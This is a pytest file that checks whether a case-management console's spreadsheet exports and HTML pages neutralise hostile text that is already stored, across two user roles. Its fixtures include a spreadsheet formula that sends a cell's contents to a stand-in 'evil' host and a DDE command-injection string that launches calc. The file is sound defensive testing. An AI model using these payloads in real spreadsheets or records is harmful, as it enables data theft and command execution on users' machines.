"""Hostile text already stored (formula starts, control characters, markup) reaches the
console's exports as plain text and its pages escaped — for the squad leader and for the
bureau's district-wide view."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
import sqlalchemy as sa
from litestar.testing import AsyncTestClient
from markupsafe import escape
from sqlalchemy.ext.asyncio import AsyncEngine

from sync.clock import ManualClock
from sync.db.tables import communities, records
from sync.db.tables_qr import qr_codes
from sync.xlsx import cell_text
from tests.console.conftest import console_login
from tests.console.scenario import synced_day
from tests.evaluation.quarter import post_qr_codes
from tests.hostile_text import (
    CONTROLS,
    FORMULAS,
    HOSTILE,
    MARKUP,
    cells,
    opened,
    store_hostile_text,
)

TITLE = '=HYPERLINK("http://evil/?x="&A1,"点我")'
# "/", "?", ":" and "[" are refused in a sheet's name: the record book's sheet is named
# after its community.
PLACE = "=cmd|' /C calc'!A0 [甲]:乙?"
PLACE_SHEET = "=cmd|' _C calc'!A0 _甲__乙_"


async def hostile_day(demo_client: AsyncTestClient[Any], clock: ManualClock,
                      engine: AsyncEngine, texts: Sequence[str], *, title: str,
                      place: str) -> str:
    day = await synced_day(demo_client, clock)
    await store_hostile_text(engine, texts)
    async with engine.begin() as conn:
        stored = (await conn.execute(sa.select(records.c.fields)
                                     .where(records.c.id == day.case_id))).scalar_one()
        await conn.execute(records.update().where(records.c.id == day.case_id)
                           .values(fields={**stored, "title": title,
                                           "description": MARKUP[0]}))
        await conn.execute(communities.update().where(communities.c.id == "c-hy-02")
                           .values(name=place))
    return day.case_id


async def exports_hold_the_text(client: AsyncTestClient[Any], case_id: str, *, title: str,
                                place: str, texts: Sequence[str]) -> None:
    """Every console export opens, holds no formula, and shows ``title`` and ``place``
    (the case's and its community's) and the other records' ``texts`` as stored, less only
    what XML cannot hold."""
    ledger = opened(await client.get("/console/ledger/export"))
    case_row = next(r for r in ledger["工作台账"] if r[0] == case_id)
    assert case_row[3:5] == (cell_text(place), cell_text(title))
    assert len(ledger["处置记录"]) >= 2
    opened(await client.get("/console/ledger/export?overdue=1"))

    book = opened(await client.get("/console/record-book/c-hy-02/export"))
    [sheet] = book.values()
    assert cell_text(title) in {r[2] for r in sheet}
    hy01 = cells(opened(await client.get("/console/record-book/c-hy-01/export")))
    shown = {t for t in texts for v in hy01 if isinstance(v, str) and cell_text(t) in v}
    assert len(shown) >= 3
    assert cell_text(place) in cells(opened(await client.get("/console/compliance/export")))


@pytest.mark.parametrize("username", ["leader01", "bureau01"])
async def test_stored_formulas_export_as_the_text_they_are_never_as_formulas(
        demo_client: AsyncTestClient[Any], clock: ManualClock, engine: AsyncEngine,
        username: str) -> None:
    case_id = await hostile_day(demo_client, clock, engine, FORMULAS, title=TITLE,
                                place=PLACE)
    await console_login(demo_client, username)
    await exports_hold_the_text(demo_client, case_id, title=TITLE, place=PLACE,
                                texts=FORMULAS)
    book = opened(await demo_client.get("/console/record-book/c-hy-02/export"))
    assert list(book) == [PLACE_SHEET]


@pytest.mark.parametrize("username", ["leader01", "bureau01"])
async def test_stored_control_characters_no_longer_break_the_exports(
        demo_client: AsyncTestClient[Any], clock: ManualClock, engine: AsyncEngine,
        username: str) -> None:
    title, place = "门口\x01\x07\x1b占道", "西镇\x1b[31m居民区\ufffe"
    case_id = await hostile_day(demo_client, clock, engine, CONTROLS, title=title,
                                place=place)
    await console_login(demo_client, username)
    await exports_hold_the_text(demo_client, case_id, title=title, place=place,
                                texts=CONTROLS)
    assert cell_text(title) == "门口占道"


@pytest.mark.parametrize("username", ["leader01", "bureau01"])
async def test_stored_markup_and_control_characters_show_escaped_on_every_page(
        demo_client: AsyncTestClient[Any], clock: ManualClock, engine: AsyncEngine,
        username: str) -> None:
    await post_qr_codes(engine)  # in c-hy-03
    case_id = await hostile_day(demo_client, clock, engine, HOSTILE, title=TITLE,
                                place=PLACE)
    async with engine.begin() as conn:
        await conn.execute(qr_codes.update().values(placement=MARKUP[1]))
        await conn.execute(communities.update().values(card_liaison_name=MARKUP[0]))
    await console_login(demo_client, username)
    for url in ("/console/ledger", f"/console/ledger/{case_id}", "/console/record-book",
                "/console/record-book/c-hy-01", "/console/record-book/c-hy-02",
                "/console/compliance", "/console/review", "/console/duty-log",
                "/console/qr/", "/console/qr/?community_id=c-hy-03",
                "/console/qr/poster?community_id=c-hy-03"):
        page = await demo_client.get(url)
        assert page.status_code == 200, url
        for markup in MARKUP[:2]:
            assert markup not in page.text, url
    case = (await demo_client.get(f"/console/ledger/{case_id}")).text
    assert str(escape(MARKUP[0])) in case and str(escape(TITLE)) in case
